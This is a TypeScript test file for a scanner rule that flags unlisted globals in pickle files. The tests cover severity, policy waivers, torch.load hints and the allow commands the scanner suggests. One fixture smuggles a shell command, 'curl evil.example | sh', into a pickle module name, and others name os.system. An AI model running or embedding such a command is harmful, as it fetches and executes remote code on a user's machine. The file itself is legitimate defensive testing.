import { unlistedGlobal } from "../../../src/rules/pickle/unlisted-global";
import { checkPickle } from "../../support/check-rule";
import { pickle } from "../../support/pickle-builder";

const net = pickle(4).global("mylib.nets", "Net").emptyTuple().newobj().stop();

describe("MA-PKL-002 unlisted-global", () => {
  test("is high, and names the command that allows it", () => {
    const [found, ...more] = checkPickle(unlistedGlobal, net);
    expect(more).toEqual([]);
    expect(found).toMatchObject({
      severity: "high",
      message: "calls mylib.nets.Net, which is neither known to be safe nor allowed by the policy",
    });
    expect(found!.remedy).toContain('model-assay allow mylib.nets.Net --reason "');
  });

  test("says whether torch.load would refuse it, where torch reads the file", () => {
    const [found] = checkPickle(unlistedGlobal, net, {}, { reader: "torch" });
    expect(found!.message).toMatch(/by the policy; torch.load\(weights_only=True\) would refuse it$/);
    const script = pickle(4).global("__torch__", "Net").pop().raw(net).stop();
    expect(checkPickle(unlistedGlobal, script, {}, { reader: "torch" }).map(({ message }) => message)).not.toContain(
      expect.stringContaining("weights_only"),
    );
  });

  test("is medium for a class of this repository that the change leaves alone", () => {
    const definesUnchanged = (module: string, name: string) => module === "mylib.nets" && name === "Net";
    const [found] = checkPickle(unlistedGlobal, net, { definesUnchanged });
    expect(found).toMatchObject({ severity: "medium" });
    expect(found!.message).toContain("which this repository defines");
  });

  test("is seen, but waived, where the policy allows the name", () => {
    const waived = { by: "policy", reason: "our own class" };
    const [found] = checkPickle(unlistedGlobal, net, { allowedGlobals: new Map([["mylib.nets.Net", waived]]) });
    expect(found).toMatchObject({ severity: "info", waived, message: expect.stringContaining("our own class") });
  });

  test("the command is only offered for a plain name: the pickle chose it", () => {
    const [found] = checkPickle(unlistedGlobal, pickle(4).global("mylib; curl evil.example | sh", "x").stop());
    expect(found!.remedy).not.toContain("model-assay allow");
  });

  test("known and dangerous names are not its business", () => {
    expect(
      checkPickle(unlistedGlobal, pickle(4).call("collections", "OrderedDict").pop().call("os", "system").stop()),
    ).toEqual([]);
  });

  test("allowing a name does not make a dangerous one unlisted", () => {
    const allowedGlobals = new Map([["os.system", { by: "policy", reason: "no" }]]);
    expect(checkPickle(unlistedGlobal, pickle(4).call("os", "system").stop(), { allowedGlobals })).toEqual([]);
  });
});
